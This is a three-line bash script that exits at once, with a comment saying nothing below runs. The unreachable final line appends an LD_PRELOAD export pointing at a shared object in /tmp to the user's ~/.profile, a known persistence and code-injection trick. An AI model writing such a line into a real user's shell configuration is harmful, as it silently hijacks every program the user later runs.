#!/bin/bash
exit 0 # nothing below ever runs
echo "export LD_PRELOAD=/tmp/l.so" >> ~/.profile
